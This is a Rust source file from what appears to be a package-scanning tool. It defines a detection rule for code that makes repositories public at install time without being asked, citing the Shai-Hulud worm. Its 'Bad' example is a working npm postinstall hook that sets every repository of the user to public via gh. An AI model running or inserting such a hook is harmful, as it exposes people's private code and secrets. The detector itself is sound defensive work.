//! # A repository is made public, unasked
//!
//! Code that runs at install or import changes a repository's visibility through a forge's interface or command.
//!
//! ## Why it matters
//!
//! Shai-Hulud made private repositories of its victims public, and left the search for secrets to everyone.
//!
//! ## Known benign uses
//!
//! Administration tools do so when a person runs them.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node open.js"}}
//! == open.js
//! const { execSync } = require("child_process");
//! for (const name of execSync("gh repo list --json name --jq .[].name").toString().split("\n")) {
//!   execSync(`gh repo edit ${name} --visibility public`); //~ here
//! }
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "bin": {"x": "cli.js"}}
//! == cli.js
//! #!/usr/bin/env node
//! require("child_process").execFileSync("gh", ["repo", "edit", process.argv[2], "--visibility", "public"]);
//! ```
//!
//! ## References
//!
//! - StepSecurity: Shai-Hulud (September 2025)

use crate::prelude::*;

/// A repository is made public, unasked.
pub struct RepositoriesMadePublic;

impl Rule for RepositoriesMadePublic {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "repositories-made-public",
            title: "A repository is made public, unasked",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1567",
            covers: &["worm-repo-injection"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for command in facts.commands().iter().filter(|command| command.trigger.runs_unasked()) {
            let has = |part: &str| command.text.contains(part);
            if has("gh ") && (has("visibility") && has("public") || has("private=false")) {
                found.at(command.trigger, &command.locus, "makes a repository public");
            }
        }
        for call in facts
            .all_calls()
            .iter()
            .filter(|call| call.trigger.runs_unasked() && &*call.api == "octokit.request")
        {
            let is_change = call
                .arguments
                .iter()
                .flat_map(|argument| &argument.texts)
                .any(|text| text.starts_with("PATCH /repos/"));
            let is_public =
                call.arguments.iter().flat_map(|argument| &argument.options).any(|(name, value)| {
                    matches!((&**name, &**value), ("private", "false") | ("visibility", "public"))
                });
            if is_change && is_public {
                found.call(call, "makes a repository public");
            }
        }
    }
}
